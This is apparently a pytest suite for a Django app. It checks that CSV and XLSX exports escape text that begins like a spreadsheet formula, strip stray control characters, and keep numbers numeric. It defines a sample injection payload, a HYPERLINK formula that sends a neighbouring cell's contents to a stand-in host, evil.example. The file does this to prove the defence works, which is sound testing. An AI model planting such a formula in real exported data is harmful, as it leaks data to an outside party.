"""Every CSV and XLSX export: text that a spreadsheet would run as a formula stays text (OWASP's CSV injection),
control characters saved before the forms cleaned text do not break a download, and numbers stay numbers."""

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from helpers.exports import table_response
from tests.factories import (
    ActionItemFactory,
    ProgressUpdateFactory,
    SurveyResponseFactory,
    SurveyRoundFactory,
    TrainingCourseFactory,
)

EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")'
FORMULA_STARTS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def csv_rows(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def xlsx_sheet(response):
    # No cell of the file is a formula: openpyxl would read it back as "=..." with data type "f".
    sheet_xml = zipfile.ZipFile(io.BytesIO(response.content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml
    return load_workbook(io.BytesIO(response.content)).active


def test_text_that_starts_a_formula_stays_text_and_numbers_stay_numbers():
    rows = [[text, -5, 2.5] for text in FORMULA_STARTS] + [["plain", 0, None]]
    csv_response = table_response(["=Header"], rows, kind="csv", filename="t", title="t")
    assert csv_rows(csv_response) == [
        ["'=Header"],
        *[["'" + text, "-5", "2.5"] for text in FORMULA_STARTS],
        ["plain", "0", ""],
    ]
    sheet = xlsx_sheet(table_response(["=Header"], rows, kind="xlsx", filename="t", title="t"))
    assert sheet["A1"].value == "=Header" and sheet["A1"].data_type == "s" and sheet["A1"].quotePrefix
    for index, text in enumerate(FORMULA_STARTS, start=2):
        cell = sheet.cell(index, 1)
        assert cell.value == text.replace("\r", "\n")  # XML reads a CR back as a newline
        assert (cell.data_type, cell.quotePrefix) == ("s", True)
        assert sheet.cell(index, 2).value == -5 and sheet.cell(index, 2).data_type == "n"
    assert not sheet.cell(len(rows) + 1, 1).quotePrefix


def test_control_characters_saved_earlier_do_not_break_an_export():
    rows = [["line one\x0bline two\x00\x1f\u202e", 3]]
    assert csv_rows(table_response(["h"], rows, kind="csv", filename="t", title="t"))[1] == [
        "line one\nline two",
        "3",
    ]
    sheet = xlsx_sheet(table_response(["h\x0b"], rows, kind="xlsx", filename="t", title="t\x0b"))
    assert sheet["A2"].value == "line one\nline two" and sheet["B2"].value == 3


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_liaisons_progress_text_is_no_formula_in_the_chairs_follow_up_export(client, world, kind):
    action = ActionItemFactory(
        council=world.council, decision__item__meeting__council=world.council, department=world.department_a
    )
    ProgressUpdateFactory(action_item=action, text=EVIL + "\x0b")
    client.force_login(world.chair)
    response = client.get(reverse("meetings:action-list", args=[world.council.slug]) + f"?export={kind}")
    assert response.status_code == 200
    if kind == "csv":
        assert csv_rows(response)[1][6] == "'" + EVIL + "\n"
    else:
        assert xlsx_sheet(response)["G2"].value == EVIL + "\n"


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_survey_answers_and_extra_questions_are_no_formulas_in_the_survey_export(client, world, kind):
    round = SurveyRoundFactory(council=world.council)
    question = round.questions.create(text="@question", kind="text")
    SurveyResponseFactory(
        round=round,
        department=world.department_a,
        training_needs=EVIL,
        comments="+1 more\x0b",
        extra_answers={str(question.pk): "-2+3"},
    )
    client.force_login(world.chair)
    response = client.get(
        reverse("departments:survey-dashboard", args=[world.council.slug, round.pk]) + f"?export={kind}"
    )
    assert response.status_code == 200
    if kind == "csv":
        header, row = csv_rows(response)[:2]
        assert header[-1] == "'@question"
        assert row[-3:] == ["'" + EVIL, "'+1 more\n", "'-2+3"]
        assert row[4] == "1"  # approved positions: a number
    else:
        sheet = xlsx_sheet(response)
        values = [cell.value for cell in sheet[2]]
        assert values[-3:] == [EVIL, "+1 more\n", "-2+3"]
        assert all(cell.quotePrefix for cell in sheet[2][-3:])
        assert values[4] == 1


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_courses_trainer_is_no_formula_in_the_training_plan_export(client, world, kind):
    TrainingCourseFactory(council=world.council, trainer=EVIL, place="-Hall", starts_on=timezone.localdate())
    client.force_login(world.chair)
    response = client.get(reverse("departments:training-plan", args=[world.council.slug]) + f"?export={kind}")
    assert response.status_code == 200
    if kind == "csv":
        row = csv_rows(response)[1]
        assert row[4:6] == ["'-Hall", "'" + EVIL]
    else:
        assert [cell.value for cell in xlsx_sheet(response)[2]][4:6] == ["-Hall", EVIL]
